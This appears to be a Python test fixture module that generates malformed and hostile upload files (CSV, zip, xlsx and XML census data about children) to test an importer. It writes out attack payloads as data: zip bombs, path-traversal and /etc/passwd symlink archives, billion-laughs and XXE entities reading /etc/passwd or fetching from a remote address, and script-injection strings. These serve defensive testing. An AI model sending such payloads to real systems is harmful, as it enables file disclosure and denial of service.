"""Files that nobody should send and somebody will, made when asked for: none is large on disk until it is written."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import xlsxwriter

from tests.rooms.feeds.conftest import HEAD, child

GOOD = [child(number, name=f"Kit{letter}") for number, letter in enumerate("abcde", start=1)]
TEXT = "\n".join([HEAD, *GOOD, ""])
CELLS = [line.split(",") for line in (HEAD, *GOOD)]
Bytes = Callable[[], bytes]
DATES = (
    "2015-02-29", "31/04/2015", "04/31/2015", "1900-01-01", "1970-01-01", "2999-01-01", "9999-12-31", "0000-00-00",
    "15/2/15", "2026-03-29T01:30", "2015-02-03T00:00:00+14:00", "42038", "-1", "1e9", "NaN", "٢٠١٥-٠٢-٠٣", "1876-01-01",
)  # fmt: skip
FAR = (
    b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'
)


def mended(**changed: str) -> bytes:
    """The good file with some words replaced."""
    text = TEXT
    for old, new in changed.items():
        text = text.replace(old, new)
    return text.encode()


def zipped(*members: tuple[str, bytes], link: str = "") -> bytes:
    """An archive of these, perhaps with a symbolic link to somewhere."""
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members:
            archive.writestr(name, body)
        if link:
            entry = zipfile.ZipInfo("early-help.csv")
            entry.external_attr = 0o120777 << 16
            archive.writestr(entry, link)
    return whole.getvalue()


def nested(depth: int) -> bytes:
    """Archives within archives, ten at each depth."""
    body = zipped(("early-help.csv", b"0" * 100_000))
    for _ in range(depth):
        body = zipped(*((f"{n}.zip", body) for n in range(10)))
    return body


def with_a_false_size(body: bytes) -> bytes:
    """An archive that declares its only file to be small and unpacks to far more."""
    real = (50_000_000).to_bytes(4, "little")
    return body.replace(real, (1_000).to_bytes(4, "little"))


DELIMITED: Mapping[str, Bytes] = {
    "a mark of order and then nothing": lambda: b"\xef\xbb\xbf",
    "CP1252 and UTF-8 in one file": lambda: "\n".join([HEAD, *GOOD, ""]).encode() + "Zoë".encode("cp1252") + b"\n",
    "half of a UTF-16 letter at the end": lambda: TEXT.encode("utf-16") + b"\x00",
    "UTF-32": lambda: TEXT.encode("utf-32"),
    "NUL upon NUL": lambda: b"\x00" * 2_000_000,
    "every byte there is": lambda: bytes(range(256)) * 4_000,
    "a field beyond 64 KB": lambda: mended(worry="w" * 70_000),
    "a line of fifty megabytes without an end": lambda: HEAD.encode() + b"\n" + b"x" * 50_000_000,
    "one row of a million columns": lambda: b"a," * 300_000 + b"\n" + b"1," * 300_000 + b"\n",
    "a quotation mark that is never closed": lambda: mended(Kita='"Kita'),
    "nothing but quotation marks": lambda: f"{HEAD}\n".encode() + b'"' * 1_000_001 + b"\n",
    "a mark opened on each of many lines": lambda: f"{HEAD}\n".encode() + b'"a\n' * 5_001,
    "headings in another order": lambda: "\n".join(
        ",".join(reversed(line.split(","))) for line in TEXT.split("\n")
    ).encode(),
    "a heading missing": lambda: "\n".join(line.partition(",")[2] for line in TEXT.split("\n")).encode(),
    "a heading renamed": lambda: mended(Surname="Nom de famille"),
    "a trailer that counts wrongly": f"{TEXT}TRAILER,999\n".encode,
    "a number twice": lambda: "\n".join([TEXT, child(1, name="Other"), ""]).encode(),
    "a page of a website called a table": lambda: b"<!doctype html><html><script>alert(1)</script></html>\n" * 50,
    "a test virus": lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*\n",
    "a picture that is a script": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\n",
    "control characters for a terminal": lambda: mended(Kita="\x1b]0;owned\x07\x1b[2J"),
    "record separators of our own": lambda: mended(Kita="Ki\x1eta\x1f"),
    "dates that no calendar has": lambda: "\n".join(
        [HEAD, *(child(n, born=d) for n, d in enumerate(DATES)), ""]
    ).encode(),
}
ARCHIVES: Mapping[str, Bytes] = {
    "archives within archives": lambda: nested(3),
    "an archive of nothing": zipped,
    "an archive cut short": lambda: zipped(("early-help.csv", TEXT.encode()))[:-40],
    "an archive whose middle is damaged": lambda: _damaged(zipped(("early-help.csv", TEXT.encode() * 200))),
    "a bomb that lies about its size": lambda: with_a_false_size(zipped(("early-help.csv", b"0" * 50_000_000))),
    "a link to the system's passwords": lambda: zipped(link="/etc/passwd"),
    "names that lead elsewhere": lambda: zipped(("../../../etc/cron.d/x.csv", TEXT.encode())),
    "an absolute name": lambda: zipped(("/etc/onestory.csv", TEXT.encode())),
    "a name that Windows keeps for itself": lambda: zipped(("CON.csv", TEXT.encode())),
    "a name written backwards": lambda: zipped(("early\u202evsc.exe.csv", TEXT.encode())),
    "ten thousand files": lambda: zipped(*((f"{n}.csv", b"x") for n in range(10_000))),
    "two files where one is wanted": lambda: zipped(("a.csv", TEXT.encode()), ("b.csv", TEXT.encode())),
}


def _damaged(body: bytes) -> bytes:
    middle = len(body) // 2
    return body[:middle] + bytes(255 - each for each in body[middle : middle + 20]) + body[middle + 20 :]


def workbook(rows: list[list[str]], *, hidden: bool = False, is_1904: bool = False, wide: int = 0) -> bytes:
    """A workbook of text cells."""
    whole = io.BytesIO()
    book = xlsxwriter.Workbook(whole, {"in_memory": True, "date_1904": is_1904, "strings_to_formulas": False})
    sheet = book.add_worksheet("Early help")
    for place, row in enumerate(rows):
        sheet.write_row(place, 0, row)
    if wide:
        sheet.write_string(0, wide, "far away")
    if hidden:
        notes = book.add_worksheet("Notes")
        sheet.hide()
        notes.activate()
        notes.set_first_sheet()
    book.close()
    return whole.getvalue()


def repacked(body: bytes, **parts: bytes) -> bytes:
    """A workbook with some of its parts written over."""
    whole = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as new:
        whole_book = {entry.filename: old.read(entry) for entry in old.infolist()}
        for name, content in (whole_book | {PARTS[name]: content for name, content in parts.items()}).items():
            new.writestr(name, content)
    return whole.getvalue()


PARTS = {
    "sheet": "xl/worksheets/sheet1.xml",
    "styles": "xl/styles.xml",
    "book": "xl/workbook.xml",
    "macros": "xl/vbaProject.bin",
    "link": "xl/externalLinks/externalLink1.xml",
}
LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e
"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;">]>"""
WORKBOOKS: Mapping[str, Bytes] = {
    "only a hidden sheet holds it": lambda: workbook(CELLS, hidden=True),
    "days counted from 1904": lambda: workbook(CELLS, is_1904=True),
    "a cell at the far edge": lambda: workbook(CELLS, wide=16_383),
    "macros inside": lambda: repacked(workbook(CELLS), macros=b"\xd0\xcf\x11\xe0" * 1_000),
    "a million styles": lambda: repacked(
        workbook(CELLS), styles=b"<styleSheet>" + b"<xf/>" * 1_000_000 + b"</styleSheet>"
    ),
    "links to other workbooks": lambda: repacked(
        workbook(CELLS), link=b"<externalLink><x r:id='file:///etc/passwd'/></externalLink>"
    ),
    "a sheet that laughs": lambda: repacked(
        workbook(CELLS), sheet=LAUGHS + b"<worksheet><sheetData><row><c><v>&g;</v></c></row></sheetData></worksheet>"
    ),
    "a sheet that is no sheet": lambda: repacked(workbook(CELLS), sheet=b"not xml at all"),
    "a cell in the last row of the last column": lambda: repacked(workbook(CELLS), sheet=FAR),
    "a workbook with no book in it": lambda: zipped(("xl/worksheets/sheet1.xml", b"<worksheet/>")),
    "an old workbook called a new one": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4_000,
    "text called a workbook": TEXT.encode,
    "a workbook cut short": lambda: workbook(CELLS)[:-300],
    "nothing": lambda: b"",
}
NAMESPACE = "http://www.education.gov.uk/wrong"
CHILD = (
    "<Child><ChildIdentifiers><LAchildID>{number}</LAchildID><PersonBirthDate>2015-02-03</PersonBirthDate>"
    "<GenderCurrent>1</GenderCurrent></ChildIdentifiers></Child>"
)
ONE = CHILD.format(number="C1")
HEADER = "<Header><CollectionDetails><Collection>CIN</Collection><Year>2026</Year></CollectionDetails></Header>"


def census(children: str = ONE, *, before: str = "", header: str = HEADER) -> bytes:
    """A census file of these children."""
    return f'<?xml version="1.0"?>{before}<Message>{header}<Children>{children}</Children></Message>'.encode()


XML: Mapping[str, Bytes] = {
    "a thousand million laughs": lambda: LAUGHS + b"<Message><Children>&g;</Children></Message>",
    "one entity said very often": lambda: census(
        ONE + "&a;" * 50_000, before=f'<!DOCTYPE Message [<!ENTITY a "{"x" * 50_000}">]>'
    ),
    "a file of the system": lambda: census(
        ONE.replace("C1", "&x;"), before='<!DOCTYPE Message [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "a file from the network": lambda: census(
        ONE.replace("C1", "&x;"), before='<!DOCTYPE Message [<!ENTITY x SYSTEM "http://192.0.2.1/x">]>'
    ),
    "a definition to be fetched": lambda: census(before='<!DOCTYPE Message SYSTEM "http://192.0.2.1/x.dtd">'),
    "a parameter entity": lambda: census(before='<!DOCTYPE Message [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>'),
    "nested a hundred thousand deep": lambda: census("<a>" * 100_000 + "</a>" * 100_000),
    "a million attributes": lambda: census(f"<Child {' '.join(f'a{n}=' + chr(34) * 2 for n in range(1_000_000))}/>"),
    "a text of twenty million letters": lambda: census(ONE.replace("C1", "C" * 20_000_000)),
    "another namespace": lambda: census(ONE).replace(b"<Message>", f'<Message xmlns="{NAMESPACE}">'.encode()),
    "another file included": lambda: census(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>' + ONE
    ),
    "cut short": lambda: census()[:-60],
    "two roots": lambda: census() + census(),
    "bytes that are no letters": lambda: census(ONE.replace("C1", "\x0b\x00")),
    "said to be UTF-16 and is not": lambda: census().replace(b'"1.0"', b'"1.0" encoding="UTF-16"'),
    "an encoding nobody knows": lambda: census().replace(b'"1.0"', b'"1.0" encoding="KLINGON-8"'),
    "nothing": lambda: b"",
    "a page of a website": lambda: b"<!doctype html><html><body>Sign in<br></body></html>",
    "text": TEXT.encode,
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 1_000,
    "no child": lambda: census(""),
    "a child who says nothing": lambda: census("<Child/>"),
    "comments and instructions between": lambda: census(f"<!--{'x' * 10_000}--><?php echo 1 ?>" + ONE),
}


def written(folder: Path, name: str, body: bytes) -> Path:
    """A file of these bytes."""
    path = folder / name
    path.write_bytes(body)
    return path
